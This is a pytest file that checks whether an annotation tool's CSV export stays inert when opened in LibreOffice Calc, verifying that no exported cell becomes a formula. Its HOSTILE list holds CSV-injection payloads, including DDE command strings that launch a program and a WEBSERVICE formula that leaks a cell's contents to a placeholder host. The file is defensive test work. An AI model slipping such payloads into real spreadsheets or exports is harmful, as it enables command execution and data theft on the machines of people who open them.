"""The dataset CSV opened in LibreOffice Calc: hostile text never becomes a formula, and every cell shows
what the export wrote.

LibreOffice converts the export headless to flat ODF XML (.fods), where a formula cell carries a
`table:formula` attribute. The import runs with "Evaluate formulas" on, in one pass with "Trim spaces" off
and one with it on, the settings under which a hostile cell is most dangerous. LibreOffice comes from
scripts/setup.sh --for-tests (Debian's libreoffice-calc-nogui); without it these tests fail, unless
ANNOTATOR_SKIP_LIBREOFFICE=1 says to skip them.
"""

from __future__ import annotations

import csv
import os
import shutil
import subprocess
from dataclasses import dataclass
from pathlib import Path

import pytest
from defusedxml import ElementTree

from annotator.domain.text import canonicalize
from annotator.services.project import Project

SKIP_VARIABLE = "ANNOTATOR_SKIP_LIBREOFFICE"
CONVERSION_TIMEOUT_S = 180

HOSTILE = (
    "=1+1",
    "+1",
    "-1+1",
    "@SUM(1)",
    '=HYPERLINK("http://x","y")',
    "\t=1",
    "\r=1",
    " =1",
    "=cmd|' /C calc'!A0",
    # Dynamic Data Exchange payloads in their other spellings (OWASP "CSV Injection").
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    '=WEBSERVICE("http://x/?leak="&A1)',
    "\u00a0=1+1",  # behind a no-break space
    "\uff1d1+1",  # full-width equals sign
)
# The columns a user or an article can fill with any text.
FREE_TEXT = (
    "document_title",
    "document_outlet",
    "document_url",
    "annotator",
    "quote",
    "context_before",
    "context_after",
    "source",
    "cue",
    "comment",
)

_TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
_TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"
_OFFICE = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"


@dataclass(frozen=True)
class Cell:
    text: str  # as the spreadsheet shows it, paragraphs joined by "\n"
    formula: str | None  # the table:formula attribute: present only on a formula cell
    value_type: str | None  # "string", "float", "date", ...


@pytest.fixture(scope="module")
def soffice() -> str:
    found = shutil.which("soffice") or shutil.which("libreoffice")
    if found is None:
        if os.environ.get(SKIP_VARIABLE) == "1":
            pytest.skip(f"LibreOffice is not installed and {SKIP_VARIABLE}=1")
        pytest.fail(
            "LibreOffice (soffice) is not installed, so the spreadsheet-safety of the dataset CSV cannot"
            " be checked: run scripts/setup.sh --for-tests (it installs Debian's libreoffice-calc-nogui),"
            f" or set {SKIP_VARIABLE}=1 to skip these tests.",
            pytrace=False,
        )
    return found


@pytest.fixture(scope="module")
def profile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    # A private LibreOffice profile: parallel runs never share one (a second soffice on the same
    # profile hands its work to the first and exits), and a run as root leaves nothing in ~.
    return tmp_path_factory.mktemp("libreoffice-profile")


@pytest.fixture(scope="module")
def hostile_project(tmp_path_factory: pytest.TempPathFactory) -> Project:
    """One article and one claim per hostile text, which fills every free-text column."""
    project = Project.open(tmp_path_factory.mktemp("project") / "hostile.sqlite")
    type_id = project.codebook.get().active_types[0].id
    for number, payload in enumerate(HOSTILE):
        article_id = project.articles.add_text(
            # The payload twice: the claim on the second copy has it in its quote and its context.
            f"{payload}\n{payload}\nArticle {number}.",
            title=payload,
            outlet=payload,
            url=payload,
        ).article_id
        text = project.articles.get(article_id).text
        quote = canonicalize(payload)
        start = text.index(quote, len(quote))
        project.claims.create(
            article_id=article_id,
            annotator_id=project.annotator(payload).id,
            start=start,
            end=start + len(quote),
            source_type_id=type_id,
            confidence=3,
            source=payload,
            cue=payload,
            comment=payload,
        )
    yield project
    project.close()


def export_rows(project: Project, destination: Path, *, exact: bool) -> list[dict[str, str]]:
    """Export the dataset; returns its rows as the CSV holds them."""
    project.exchange.export_csv(destination, exact=exact)
    with destination.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


def open_in_calc(soffice: str, profile: Path, csv_path: Path, *, trim_spaces: bool) -> list[list[Cell]]:
    """The cells LibreOffice Calc makes of a CSV file, read from the .fods it converts it to."""
    # Filter options, in order: comma-separated, '"' quotes, UTF-8 (76), from line 1, no column
    # types, default language, quoted fields not forced to text, detect special numbers, two export
    # options, trim spaces, no sheet, evaluate formulas.
    options = f"44,34,76,1,,0,false,true,false,false,{str(trim_spaces).lower()},,true"
    out = csv_path.parent / f"calc-{'trimmed' if trim_spaces else 'as-is'}"
    try:
        result = subprocess.run(
            [
                soffice,
                f"-env:UserInstallation={profile.as_uri()}",
                "--headless",
                "--norestore",
                f"--infilter=Text - txt - csv (StarCalc):{options}",
                "--convert-to",
                "fods",
                "--outdir",
                str(out),
                str(csv_path),
            ],
            capture_output=True,
            text=True,
            timeout=CONVERSION_TIMEOUT_S,
            check=False,
        )
    except subprocess.TimeoutExpired as error:
        pytest.fail(f"LibreOffice took more than {CONVERSION_TIMEOUT_S} s to convert the CSV: {error}")
    converted = out / f"{csv_path.stem}.fods"
    assert converted.exists(), f"LibreOffice wrote no .fods:\n{result.stdout}\n{result.stderr}"
    return read_fods(converted)


def read_fods(path: Path) -> list[list[Cell]]:
    """The first sheet's rows, without trailing empty cells and rows."""
    root = ElementTree.parse(path).getroot()
    table = next(root.iter(f"{_TABLE}table"))
    rows = []
    for row in table.iter(f"{_TABLE}table-row"):
        cells: list[Cell] = []
        for element in row:
            if element.tag not in (f"{_TABLE}table-cell", f"{_TABLE}covered-table-cell"):
                continue
            cell = Cell(
                "\n".join(_paragraph_text(p) for p in element.findall(f"{_TEXT}p")),
                element.get(f"{_TABLE}formula"),
                element.get(f"{_OFFICE}value-type"),
            )
            cells.extend([cell] * int(element.get(f"{_TABLE}number-columns-repeated", "1")))
        while cells and cells[-1] == Cell("", None, None):
            cells.pop()
        rows.append(cells)
    while rows and not rows[-1]:
        rows.pop()
    return rows


def _paragraph_text(element) -> str:  # type: ignore[no-untyped-def]
    """A text:p's text, with its space, tab and line-break elements turned back into characters."""
    parts = [element.text or ""]
    for child in element:
        if child.tag == f"{_TEXT}s":
            parts.append(" " * int(child.get(f"{_TEXT}c", "1")))
        elif child.tag == f"{_TEXT}tab":
            parts.append("\t")
        elif child.tag == f"{_TEXT}line-break":
            parts.append("\n")
        else:  # text:span, text:a, ...
            parts.append(_paragraph_text(child))
        parts.append(child.tail or "")
    return "".join(parts)


def as_shown(value: str) -> str:
    """A cell's text as Calc shows it: every line break inside a cell becomes a paragraph break ("\n"
    when read back), and a cell of several lines loses its tabs (LibreOffice 7.4's CSV import)."""
    value = value.replace("\r\n", "\n").replace("\r", "\n")
    return value.replace("\t", "") if "\n" in value else value


@pytest.mark.parametrize("trim_spaces", [False, True], ids=["as-is", "trim-spaces"])
def test_no_exported_cell_becomes_a_formula_in_libreoffice(
    tmp_path: Path, soffice: str, profile: Path, hostile_project: Project, trim_spaces: bool
) -> None:
    exported = export_rows(hostile_project, tmp_path / "claims.csv", exact=False)
    assert len(exported) == len(HOSTILE)
    sheet = open_in_calc(soffice, profile, tmp_path / "claims.csv", trim_spaces=trim_spaces)

    header, *rows = sheet
    columns = [cell.text for cell in header]
    assert columns == list(exported[0])
    formulas = [(columns[i], cell.formula) for row in rows for i, cell in enumerate(row) if cell.formula]
    assert formulas == []
    assert len(rows) == len(exported)
    for row, written in zip(rows, exported, strict=True):
        shown = dict(zip(columns, row, strict=False))
        for column in FREE_TEXT:
            expected = as_shown(written[column])
            if trim_spaces:
                expected = expected.strip(" ")
            assert shown[column].text == expected, (column, written[column])
            assert shown[column].value_type in ("string", None), (column, written[column])


def test_the_exact_export_does_make_formulas_in_libreoffice(
    tmp_path: Path, soffice: str, profile: Path, hostile_project: Project
) -> None:
    # The check above would pass on a harness that never found a formula: this shows it does.
    export_rows(hostile_project, tmp_path / "exact.csv", exact=True)
    header, *rows = open_in_calc(soffice, profile, tmp_path / "exact.csv", trim_spaces=False)
    comment = [cell.text for cell in header].index("comment")
    formulas = {row[comment].formula for row in rows}
    assert "of:=1+1" in formulas
    assert any(formula and "HYPERLINK" in formula for formula in formulas)
